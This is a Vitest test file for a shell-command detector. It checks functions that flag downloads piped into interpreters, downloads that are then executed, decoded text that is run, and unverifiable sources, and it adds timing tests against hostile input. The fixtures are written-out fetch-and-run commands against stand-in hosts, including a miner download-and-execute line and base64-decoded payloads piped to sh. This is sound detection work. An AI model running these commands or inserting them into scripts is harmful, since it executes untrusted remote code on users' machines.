import { describe, expect, it } from 'vitest';
import {
  executesDownload,
  installsDownload,
  isUnverifiable,
  pipesDownload,
  runsDecoded,
} from './shell-shape.js';

describe('a download piped into an interpreter', () => {
  it.each([
    'wget -qO- http://203.0.113.9/x.sh | sh',
    'apk add curl && curl -sSL https://h.example/i | sudo -E bash -s --',
    'curl -s $A$B|python3 -',
    'sh -c "$(curl -fsSL https://h.example/i)"',
    'bash <(curl -s http://h/x)',
    'eval "$(wget -qO- http://h/x)"',
    'curl http://h/x \\\n  | tee /tmp/l | /bin/sh',
    'busybox wget -O - http://h/x | busybox sh',
    'python3 -c "import urllib.request as u; exec(u.urlopen(\'http://h\').read())"',
  ])('%s', (command) => expect(pipesDownload(command)).toBe(true));

  it.each([
    'curl -fsSL https://h.example/key.gpg | gpg --dearmor -o /k.gpg',
    'curl -L https://h.example/a.tgz | tar xz',
    'apt-get install -y curl; echo done | sh',
    'make && ./configure | sh',
  ])('not: %s', (command) => expect(pipesDownload(command)).toBe(false));
});

describe('a download that is run as a file', () => {
  it.each([
    'wget http://h/m -O /tmp/m && chmod +x /tmp/m && /tmp/m -o pool',
    'curl -o /i.sh https://h.example/i.sh; bash /i.sh',
    'cd /tmp && wget http://h/miner && chmod 755 miner && ./miner',
  ])('%s', (command) => expect(executesDownload(command)).toBe(true));

  it('is not one that is only made executable', () => {
    const command =
      'curl -Lo /usr/local/bin/kubectl https://h.example/kubectl && chmod +x /usr/local/bin/kubectl';
    expect(executesDownload(command)).toBe(false);
    expect(installsDownload(command)).toBe(true);
  });

  it('is not an archive that is unpacked', () => {
    const command = 'curl -LO https://h.example/a.tgz && tar xf a.tgz && chmod -R u+w /src';
    expect(executesDownload(command) || installsDownload(command)).toBe(false);
  });
});

describe('decoded text that is run', () => {
  it.each([
    'echo ZWNobyBoaQ== | base64 -d | sh',
    'echo 6563 | xxd -r -p | bash',
    "printf '\\x65\\x63' | sh",
    'eval "$(echo aGk= | base64 --decode)"',
    'python3 -c "import base64; exec(base64.b64decode(\'aGk=\'))"',
    'echo U2Fs | openssl enc -aes-256-cbc -d -k x | sh',
  ])('%s', (command) => expect(runsDecoded(command)).toBe(true));

  it.each([
    'echo "$CERT" | base64 -d > /cert.pem',
    "printf 'a\\nb' > /x",
    'base64 -d k | gpg --import',
  ])('not: %s', (command) => expect(runsDecoded(command)).toBe(false));
});

describe('a source', () => {
  it.each([
    [['curl https://get.example.org/i | sh'], false],
    [['curl -k https://get.example.org/i | sh'], true],
    [['curl http://get.example.org/i | sh'], true],
    [['curl https://203.0.113.9/i | sh'], true],
    [['curl $URL | sh'], true],
  ])('%j', (texts, unverifiable) => expect(isUnverifiable(texts)).toBe(unverifiable));
});

it('does not take long over hostile text', () => {
  for (const text of [
    'curl '.repeat(13_000),
    `curl ${'| '.repeat(30_000)}`,
    `${'a=b '.repeat(16_000)}curl |`,
    'base64 '.repeat(9_000),
  ]) {
    const begin = performance.now();
    for (const judge of [pipesDownload, executesDownload, installsDownload, runsDecoded])
      judge(text);
    expect(performance.now() - begin).toBeLessThan(2000);
  }
});
